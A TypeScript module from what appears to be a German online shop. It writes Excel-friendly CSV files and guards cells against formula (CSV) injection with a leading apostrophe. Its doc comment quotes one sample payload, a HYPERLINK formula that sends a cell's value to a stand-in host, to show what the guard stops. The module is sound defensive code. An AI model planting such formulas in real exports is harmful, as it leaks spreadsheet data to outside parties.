import { type Stringifier, stringify } from 'csv-stringify';

/**
 * CSV files for spreadsheets (docs/decisions/149). A cell that starts with = + - @, a tab or a
 * carriage return is a formula to Excel and LibreOffice: a product named
 * =HYPERLINK("http://evil.test/?x="&A2;"Klick") would run in the staff member's spreadsheet.
 * Such a text is written with a leading apostrophe (OWASP's advice against CSV injection), so
 * the spreadsheet shows it as text. Texts that already start with apostrophes before such a
 * character get one more, so formulaRestored (the import) gives back exactly what was written.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;
const GUARDED = /^'+[=+\-@\t\r]/;

/** A text as it is safe in a CSV cell. */
const formulaSafe = (text: string): string => (FORMULA_START.test(text) ? `'${text}` : text);

/** A CSV cell as the text it was before formulaSafe. */
export const formulaRestored = (text: string): string => (GUARDED.test(text) ? text.slice(1) : text);

/**
 * A CSV writer as German Excel opens and saves it: UTF-8 with a byte order mark (umlauts read
 * right), ";" between columns, CRLF; every text cell through formulaSafe. Every CSV the shop
 * writes uses it. `number` writes number cells (a decimal comma for German Excel): a negative
 * amount passed as a number stays a number, where as a text "-47,35" it would be taken for a
 * formula and guarded.
 */
export function spreadsheetCsv(options: { number?: (value: number) => string } = {}): Stringifier {
  return stringify({
    delimiter: ';',
    bom: true,
    record_delimiter: 'windows',
    cast: { string: formulaSafe, ...(options.number ? { number: options.number } : {}) },
    // csv-stringify quotes a line feed but not a lone carriage return, which readers take as a line end.
    quoted_match: /\r/,
  });
}
